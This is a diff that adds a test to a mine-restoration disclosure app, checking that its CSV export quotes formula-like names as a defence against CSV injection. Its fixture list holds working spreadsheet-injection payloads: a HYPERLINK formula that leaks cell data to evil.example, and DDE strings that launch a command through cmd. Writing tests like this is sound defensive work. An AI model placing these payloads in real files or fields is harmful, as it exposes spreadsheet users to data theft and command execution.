@@ -53,3 +53,27 @@ async def test_the_public_sees_accrual_deposits_spending_and_plan_execution(rest
     assert unknown.status_code == 404
     bad_year = await restoration.client.get("/disclosures/export.csv", params={"year": "x"})
     assert bad_year.status_code == 422
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_the_export_writes_formula_like_mine_names_as_text(restoration):
+    """CSV injection: a mine name the bureau's spreadsheet would run is quoted (OWASP's rule)."""
+    for name in FORMULAS:
+        await grant(restoration, mine_name=name, holder_name="@" + name[1:])
+    export = await restoration.client.get("/disclosures/export.csv", params={"year": 2026})
+    assert export.status_code == 200
+    assert export.headers["content-disposition"] == 'attachment; filename="restoration-2026.csv"'
+    assert export.headers["x-content-type-options"] == "nosniff"
+    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"), newline="")))
+    assert sorted(r["mine_name"] for r in rows) == sorted("'" + n for n in FORMULAS)
+    assert all(r["holder_name"].startswith("'@") for r in rows)
+    assert {r["accrued"] for r in rows} == {"0.00"}  # numbers stay numbers
